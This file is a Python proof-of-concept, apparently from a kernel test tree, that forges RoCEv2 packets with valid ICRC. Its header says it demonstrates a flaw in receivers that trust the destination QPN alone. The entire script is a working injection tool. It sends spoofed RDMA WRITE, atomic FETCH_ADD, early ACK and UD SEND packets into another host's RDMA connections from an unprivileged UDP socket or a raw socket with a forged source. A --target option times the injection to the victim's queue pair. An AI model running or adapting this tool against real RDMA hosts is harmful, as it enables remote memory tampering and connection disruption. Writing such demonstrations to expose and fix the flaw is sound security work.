#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
#
# roce_forge.py: what any unprivileged process can do to an RC connection
# when a RoCEv2 receiver trusts the destination QPN alone. It sends RC
# RDMA WRITE packets (Only by default; --op first with a RETH of --total
# bytes, or middle, or last) with a correct ICRC through an ordinary UDP
# socket (no raw socket, no capability). --op ud sends UD SEND_ONLY
# datagrams instead, with a DETH of --qkey and --sqpn; --op fadd RC
# FETCH_ADD requests (adding 1 at --va under --rkey, no payload); --op ack
# an RC ACKNOWLEDGE of --psn with an AETH of --syndrome (default 0x1f,
# an ACK without credits) and --msn: a peer acknowledging early.
# --target FILE waits for FILE to hold "QPN PSN" and takes --qpn and --psn
# from it, so that the packet leaves the moment the victim writes it.
#
#   roce_forge.py --src IP --dst IP --qpn N --psn N [--va ADDR --rkey KEY]
#                 [--pkey P] [--count N] [--len BYTES] [--fill BYTE]
#                 [--op only|first|middle|last|ud|fadd|ack] [--total BYTES]
#                 [--syndrome S] [--msn N] [--target FILE]
#                 [--qkey Q] [--sqpn N] [--broadcast] [--raw]
#
# The socket is bound to --src, which must be an address of this host;
# the kernel writes the IP header, so the ICRC is computed over the header
# it will write: an unconnected socket with DF set gets IP ID 0 (see
# ip_select_ident_segs()), and TOS, TTL and the checksums are masked.
# --broadcast allows a broadcast --dst (SO_BROADCAST); a group address
# needs nothing: the kernel sends it out of --src's device. --raw (root
# only) writes the IP header itself through a raw socket instead, so that
# --src may be any address, a broadcast one say.
# Prints one line: "sent N".
import argparse
import os
import socket
import struct
import time
import zlib

ROCE_PORT = 4791
# RC RDMA WRITE opcodes (IBTA table 38); First and Only carry a RETH.
OPS = {'first': 0x06, 'middle': 0x07, 'last': 0x08, 'only': 0x0a,
       'ud': 0x64,      # UD SEND_ONLY, with a DETH
       'fadd': 0x14,    # RC FETCH_ADD, with an AtomicETH
       'ack': 0x11}     # RC ACKNOWLEDGE, with an AETH
IP_MTU_DISCOVER = 10     # <linux/in.h>; not in Python's socket module
IP_PMTUDISC_DO = 2


def icrc(image):
    """ICRC over IPv4 + UDP + BTH.. (Documentation/design.rst), as bytes."""
    b = bytearray(image)
    b[1] = 0xff                     # TOS
    b[8] = 0xff                     # TTL
    b[10:12] = b'\xff\xff'          # IP header checksum
    b[26:28] = b'\xff\xff'          # UDP checksum
    b[28 + 4] = 0xff                # BTH resv8a
    return struct.pack('<I', zlib.crc32(b'\xff' * 8 + bytes(b)) & 0xffffffff)


def headers(src, sport, dst, body):
    udp_len = 8 + len(body) + 4
    iph = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + udp_len, 0, 0x4000, 64,
                      socket.IPPROTO_UDP, 0, socket.inet_aton(src),
                      socket.inet_aton(dst))
    return iph, struct.pack('>HHHH', sport, ROCE_PORT, udp_len, 0)


def packet(src, sport, dst, a):
    """(IPv4 header, UDP header, UDP payload with its ICRC)"""
    payload = b'' if a.op in ('fadd', 'ack') else bytes([a.fill]) * a.len
    pad = -len(payload) % 4
    bth = struct.pack('>BBHI I', OPS[a.op], pad << 4, a.pkey,
                      a.qpn & 0xffffff, a.psn & 0xffffff)
    reth = b''
    if a.op in ('first', 'only'):
        reth = struct.pack('>QII', a.va, a.rkey,
                           a.total if a.op == 'first' else a.len)
    if a.op == 'ud':
        reth = struct.pack('>II', a.qkey, a.sqpn & 0xffffff)
    if a.op == 'fadd':
        reth = struct.pack('>QIQQ', a.va, a.rkey, 1, 0)
    if a.op == 'ack':
        reth = struct.pack('>I', (a.syndrome << 24) | (a.msn & 0xffffff))
    body = bth + reth + payload + b'\0' * pad
    iph, udph = headers(src, sport, dst, body)
    return iph, udph, body + icrc(iph + udph + body)


def main():
    p = argparse.ArgumentParser()
    p.add_argument('--src', required=True)
    p.add_argument('--dst', required=True)
    p.add_argument('--qpn', type=lambda x: int(x, 0), default=0)
    p.add_argument('--psn', type=lambda x: int(x, 0), default=0)
    p.add_argument('--target')
    p.add_argument('--va', type=lambda x: int(x, 0), default=0)
    p.add_argument('--rkey', type=lambda x: int(x, 0), default=0)
    p.add_argument('--qkey', type=lambda x: int(x, 0), default=0x80010000)
    p.add_argument('--sqpn', type=lambda x: int(x, 0), default=1)
    p.add_argument('--pkey', type=lambda x: int(x, 0), default=0xffff)
    p.add_argument('--count', type=int, default=1)
    p.add_argument('--len', type=int, default=64)
    p.add_argument('--fill', type=lambda x: int(x, 0), default=0xee)
    p.add_argument('--op', choices=sorted(OPS), default='only')
    p.add_argument('--total', type=int, default=0)
    p.add_argument('--syndrome', type=lambda x: int(x, 0), default=0x1f)
    p.add_argument('--msn', type=lambda x: int(x, 0), default=0)
    p.add_argument('--broadcast', action='store_true')
    p.add_argument('--raw', action='store_true')
    a = p.parse_args()
    while a.target:
        try:
            with open(a.target) as f:
                a.qpn, a.psn = (int(x) for x in f.read().split())
            break
        except (OSError, ValueError):
            time.sleep(0.02)

    if a.raw:
        # The kernel fills in the header checksum and leaves ID 0 (DF).
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        for i in range(a.count):
            a.psn += i > 0
            s.sendto(b''.join(packet(a.src, ROCE_PORT, a.dst, a)), (a.dst, 0))
        print('sent %d raw as uid %d' % (a.count, os.getuid()))
        return

    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # DF, hence IP ID 0 on an unconnected socket.
    s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
    if a.broadcast:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind((a.src, 0))
    sport = s.getsockname()[1]
    for i in range(a.count):
        a.psn += i > 0
        s.sendto(packet(a.src, sport, a.dst, a)[2], (a.dst, ROCE_PORT))
    print('sent %d as uid %d' % (a.count, os.getuid()))


if __name__ == '__main__':
    main()
